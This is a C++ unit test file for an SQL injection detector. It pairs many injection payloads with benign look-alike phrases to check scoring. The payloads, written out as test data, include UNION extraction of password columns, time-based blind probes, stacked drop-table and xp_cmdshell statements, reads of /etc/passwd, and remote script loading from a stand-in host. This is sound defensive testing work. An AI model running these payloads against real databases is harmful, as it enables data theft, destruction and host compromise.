#include "inspect/sql/sql.h"

#include <gtest/gtest.h>

namespace onesec::inspect {
namespace {

std::uint32_t points(std::string_view text) {
  Reasons reasons;
  inspect_sql(text, ascii::Alphabet(text), reasons);
  for (const Reason& reason : reasons.all()) {
    EXPECT_LE(reason.begin, reason.end) << text;
    EXPECT_LE(reason.end, text.size()) << text;
  }
  return reasons.points(Attack::Sql);
}

TEST(Sql, AStringIsLeft) {
  for (const char* attack : {"x' or 7=7",
                             "x' OR 'k'='k",
                             "x') and ('1'='1",
                             "\" or \"\"=\"",
                             "mallory'--",
                             "mallory' #",
                             "mallory'/*",
                             "q' and sleep(3)#",
                             "q'||(select pw from staff limit 1)||'",
                             "q' order by 9-- -",
                             "q' group by a having 3=3--",
                             "q%' and 2=2 and '%'='",
                             "q'; drop table staff--",
                             "q' union all select null,null--",
                             "1' procedure analyse()#",
                             "q' like '%",
                             "'='",
                             "q' and 1 in (select pw from staff)--",
                             "q'+(case when 1=1 then 2 else 3 end)+'",
                             "q\\' or 1=1 -- "}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
}

TEST(Sql, ANumberIsLeft) {
  for (const char* attack :
       {"7 or 3=3", "7) or (3=3", "-1 union select 1,2,3", "7 union/**/select pw from staff", "7 and(select 1)=1",
        "7;waitfor delay '0:0:9'", "7 waitfor delay '0:0:9'--", "(select sleep(9))", "7-if(3=3,sleep(2),0)",
        "7 /*!50000union*/ select 1,2", "7 and ascii(substr(pw,1,1))>64", "7,(select pw from staff)",
        "7 into outfile '/tmp/x'", "7||utl_http.request('http://x/')", "extractvalue(1,concat(0x7e,version()))",
        "7 rlike (select 1)", "7 where 3=3--", "1fUNION select 2"}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
}

TEST(Sql, WhatPeopleWriteIsNoAttack) {
  for (const char* text : {"O'Brien",
                           "D'Angelo and sons",
                           "rock 'n' roll",
                           "the students' union select a date from the calendar",
                           "Tom or Jerry",
                           "5' 6\" or taller",
                           "it's 5 o'clock and we're late",
                           "don't drop the table; select another one",
                           "x > 3 and y < 5",
                           "R&B or C#",
                           "he said \"yes\" or \"no\"",
                           "'tis the season -- or is it?",
                           "select the best option from the list",
                           "union members select their leader",
                           "like 10 of them",
                           "a=1&b=2",
                           "C++ (or C)",
                           "between you and me",
                           "1 or 2",
                           "order by phone",
                           "group by age",
                           "where's george",
                           "time.sleep(5)",
                           "delete the file; then update the page",
                           "call O'Hara",
                           "in or out",
                           "50% off and more",
                           "[\"a\",\"b\"]",
                           "{\"or\": 1}",
                           "2024-11-26 10:00",
                           "user@example.org",
                           "if (a == b) { return; }",
                           "l'été ou l'hiver",
                           "\"and\"",
                           "the \"or\" operator"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}

TEST(Sql, ANearMissOfAnAttackIsNone) {
  EXPECT_GE(points("7 union select pw,id from staff"), kThreshold);
  EXPECT_LT(points("trade union select committee"), kThreshold) << "words stand where SQL has no place for them";
  EXPECT_GE(points("x'; drop table staff"), kThreshold);
  EXPECT_LT(points("x'; drop me a line"), kThreshold) << "nothing that can be dropped";
  EXPECT_GE(points("7 and sleep(3)"), kThreshold);
  EXPECT_LT(points("eat and sleep (well)"), kThreshold);
}

TEST(Sql, FragmentsAndOtherStatements) {
  for (const std::string_view text : {"information_schema.tables",
                                      "sqlite_master",
                                      "select hex(",
                                      "admin';",
                                      "1/*!50000union*/",
                                      "1.e(ascii)",
                                      "1;with q as (select 1)delete from t",
                                      "1;pragma table_info(t)",
                                      "1;attach 'a' as b",
                                      "1;vacuum",
                                      "1;replace into t values(1)",
                                      "1 union all values (1,'x')",
                                      "or '{\"a\":1}'::jsonb <@ '{\"a\":1}'",
                                      "x' or id-- ",
                                      "@@version",
                                      "1 procedure analyse()",
                                      "'-'",
                                      "' || '",
                                      "'XOR'",
                                      "417652--",
                                      "-1 /*",
                                      "-1 union",
                                      "union  all select",
                                      "password::int",
                                      "(select 'a' where 83=83 waitfor delay '0:0:5')",
                                      "if (8340=8340) then",
                                      "select sin(((1)),2 from bar where"})
    EXPECT_GE(points(text), kThreshold) << text;
  for (const std::string_view text : {"the information_schema",
                                      "he said 'yes';",
                                      "std::string",
                                      "Foo::Bar",
                                      "1/2 + 1/3 = 5/6",
                                      "42 < 5 && 5 > 42",
                                      "Val-d'Or 100%",
                                      "Ch'in +7",
                                      "'<' and '>'; it takes",
                                      "sleep (42).pdf",
                                      "print(os.path.join('select', \"x\"))",
                                      "a \"-\", b",
                                      "attach a file; vacuum the room",
                                      "@@ -1,2 +1,3 @@",
                                      "@home",
                                      "\"and\"",
                                      "'n'",
                                      "2024 --draft",
                                      "1 union member",
                                      "Foo::text_of",
                                      "when 1=1",
                                      "where 12=120",
                                      "select two (or more) from the list where you like"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, EveryByteIsReadOnceOrSo) {
  // No string makes it quadratic: what would is opened again and again and never closed.
  for (const char* piece : {"'", "(", "[a", "/*", "\"'", "((select ", "union ", "or ", "case when ", "1,"}) {
    std::string text;
    while (text.size() < (64U << 10U)) text += piece;
    (void)points(text);
  }
}

TEST(Sql, WhatIsNestedTooDeepIsLeft) {
  const std::string deep = std::string(10'000, '(') + "1" + std::string(10'000, ')');
  EXPECT_LT(points(deep), kThreshold);
}

TEST(Sql, StatementsOfPostgresThatReachTheHost) {
  EXPECT_GE(points("'; copy t from program 'id'--"), kThreshold);
  EXPECT_GE(points("'; COPY t (a, b) TO '/tmp/x'--"), kThreshold);
  EXPECT_GE(points("'; select lo_import('/etc/passwd')--"), kThreshold);
  EXPECT_LT(points("; copy the text from page one"), kThreshold);
  EXPECT_LT(points("`SELECT *` is slow"), kThreshold);
}

TEST(Sql, AGroupIsLeftAndTheRestCutOff) {
  for (const char* attack :
       {"7)&(5)/*", "1)<>0x5/*", "7') in (id)-- ", ")=(true)-- ", "1' glob id is id-- ", "'%5|abs(7)-- "})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text :
       {"a) & b) -- see there", "list) - the first /* note */", "1) 2-3 -- or 4", "36\" X 48\" FRAME"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, QueriesThatBeginWithOtherWordsThanSelect) {
  for (const char* attack : {"7 < (with x as (select a from b) select a from x)",
                             "' or exists(with x as(select a from b)select a from x)-- ", "7 like (values(1))",
                             "1;update main . users set pw='x'"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"7 < (with luck)", "done (with x as usual)", "f(with x)", "see (values (new) of it)"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, AConditionBehindANumber) {
  EXPECT_GE(points("7 or name like 'a%'"), kThreshold);
  EXPECT_LT(points("7 or 8 like it"), kThreshold);
  EXPECT_GE(points("1 or ifnull(pw,1);"), kThreshold);
}

TEST(Sql, ProceduresAndStatementsByTheirWholeNames) {
  for (const char* attack :
       {"exec master..xp_cmdshell", "7 union exec master..xp_cmdshell 'dir'", "7; delete quick from staff",
        "7;load xml infile 'a'", "'; begin shutdown end--", "';select p", "; replace t(id, name) values (1, 'a');"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"exec master list", "7; delete the quick one", "load xml files first", "it's; select one",
                           "; replace it (if you can) with values"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, ExpressionsThatAreBegunOrCutOff) {
  for (const char* attack :
       {"'x'!='y", "x' / id != '1", "7 || substr(pw,1,1) = 'a'", "database() like schema()", "7*7--", "7 * 7 /*",
        "case 7 when 8 then 9 end", "7 and ascii(substring(f()),1,1))=x", "9 or /*+ hint */ true", "` as `id` from",
        "7 as a from t", "or json_extract(doc, '$.a') = 'b'"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"'Ch'in'", "in case of rain, when it ends", "2*2 is four", "*/ 7 * 7 dots", "7 as a rule",
                           "it's 7 * 7 - 'more", "`a` as `b` from now on"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, TheVocabularyBehindAValueWhereNoGrammarFits) {
  for (const char* attack :
       {"7 UN_ON SELECT 1,2,3,4,5-- ", "7)and(select1from(selectcount(*),concat((selectversion()),floor(rand(0)*2))",
        "7 or 1=(SELECTnameFROMINFORMATION_SCHEMA.TABLESx)", "7 and ascii(lower(substring((pw))1,1))=x",
        "7; drop staff --", "7'; go xp_dirtree '//h/s' --", "-7 unio select pw,concat(0x3a,id) from staff/*"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text :
       {"2026-11-27 12:00:01 select count(*) from information_schema.tables", "7 unions select 1 of 4, see page 2",
        "12 seats, rows 1, 2, 3, 4 -- selected from the plan", "7 members; update the list", "1,2,3,4,5"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, WordsThatAFilterPutsTogether) {
  for (const char* attack : {"7 un/**/ion sel/*x*/ect pw fr/**/om staff",
                             "7 UNunionION SELselectECT pw,2 FRfromOM staff", "7) an/**/d sl/**/eep(5)-- "})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"src/**/*.cc", "a/*b*/c", "Oorr", "the union/*see*/members"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, QueriesAndStatementsOfOtherForms) {
  for (const char* attack :
       {"7' union table staff limit 1#", "7' union values row(1,2)#", "7'or{x 1}=1#", "7' and 0b1=1#",
        "', pw='x' where name='root'-- -", ", (select pw from staff limit 1)", "id desc,(select pw from staff limit 1)",
        "id asc, if(1=1,sleep(2),0)", ", (select pw from staff limit 1)=1 asc #",
        "insert into t (a, b) values ('x', 1)", "1'; if not exists (select 1 from t) drop table t",
        "7 -- x sp_password", "7; while 1=1 begin x end", "7) from staff where name=", "limit 0,1--",
        "7 order by ifnull(null,pw)"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text :
       {"the union table is by the window", "it's a {new 1} day", ", and (so on) it goes",
        "the end, (select one) of it", "id asc, then name", "; 2+2=4", "O'Hara; 1=1", ";u2=sin(x)^2+1=1", "Sleep(Well)",
        "Benchmark(TM) chair", "check if one exists (or select another)", "limit 5 a day", "price > 5 and name <> ''",
        "=JOIN(A1,\" - \",B1)", "while 1=1 is true", "(a) from here, where to?"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, WhatTheQuoteOfTheProgramCloses) {
  for (const char* attack : {"x' || 'y", "x' && 'y", "7'*id-'0", "x' or a && '7", "x'like'0", "k'^!'k", "admin '=' x",
                             "a '||' b", "'||'1'||'", "' || '' '"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"trick'or'treat", "drum 'and' bass", "sold \"AS IS\"", "use the '=' sign", "Rock '&' Roll",
                           "36\" + X + 48 + \" FRAME", "'a' || 'b' || c"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, GroupsAndStatementsThatAreCutOff) {
  for (const char* attack : {") like (", ")union(", "execute immediate 'dr", "1 procedure analyse (extractvalue(1,2))",
                             "1;handler a open;handler a read first", "1;BACKUP DATABASE a TO DISK='x'",
                             "1 and {`if`updatexml(1,2,3)}", "SELECT sleep (mod(9,5))", "select benchmark (9,md5(1))",
                             "OR '{\"a\":1}' ?| array['a','b']", "7 or 'b' = array['a','b']"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text :
       {"a; handler for errors", "stop it; backup database; go on", ") and (", ")a(", "execute immediate action",
        "procedure analyse the data", "sleep (well)", "array['a'] in PHP", "OR 'a' in array[1"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, ConditionsThatEndInWordsOfADialect) {
  for (const char* text :
       {"1' or 1=1 with ur--", "' or 1=1 option(maxdop 1)-- -", "' or token(id)>0 allow filtering--", "' or 'a'~'a'--",
        "' or 'a' ~* 'A'#", "1 or rownum=1", "hi or a=a", "' or 'a' similar to 'a'--", "1' or 1 member of('[1,2]')#",
        "1 and get_lock('a',5)", "1' and 9=(select count(*) from sysmaster:syspaghdr)--",
        "') on duplicate key update password='x'-- -"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const char* text : {"it's 5 or more with a--dash", "Anna's a member of (our) club", "it's similar to 'that'",
                           "7 or size = 4", "hi or a=b", "an ~approximate~ 'value' or so"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, WholeDefinitionsAndOtherStackedStatements) {
  for (const char* text :
       {"';use master;grant control server to [public]--", "';bulk insert x from 'c:\\x'--",
        "';runscript from 'http://192.0.2.9/x'--", "1;desc users;", "load data infile '/srv/x' into table y",
        "insert into a.b (c,d) values (1,2)", "create user x identified by 'y'"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const char* text : {"CREATE TABLE x (id INT PRIMARY KEY, name VARCHAR(2));", "create table settings for two",
                           "create user stories by hand", "use it; desc it", "load data in file x"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Sql, WordsOfSqlThatPeopleAndProgramsUse) {
  for (const char* text :
       {"Is there a \"select all\" option? I'd like to delete from March to June", "SQL (select, insert & update)",
        "sleep(8) hours or 7", "516=4-k4M5oqdV-_2CTT", "Is 5 > 3 and 2 < 4? Yes, it's true & obvious!"})
    EXPECT_LT(points(text), kThreshold) << text;
  for (const char* text : {"sleep(8)", "(select 1)", "x or 2<4-- "}) EXPECT_GE(points(text), kThreshold) << text;
}

TEST(Sql, SumsQuotesAndSignsThatPeopleWriteOf) {
  for (const char* text : {"sin(30)=0.5; cos(60)=0.5", "Allow ' and \" in family names", "100%Katze#2"})
    EXPECT_LT(points(text), kThreshold) << text;
  for (const char* text : {"--1 union select a,b from c-- ", "1; sleep(5)", "x' and \"a\"=\"a", "1*id#"})
    EXPECT_GE(points(text), kThreshold) << text;
}

TEST(Sql, AnAliasIsNoUnitOfTime) {
  for (const char* text : {"sleep(5) a", "pg_sleep(5) a", "load_file('/srv/a') a", "benchmark(90000000,md5(1)) a"})
    EXPECT_GE(points(text), kThreshold) << text;
}

}  // namespace
}  // namespace onesec::inspect
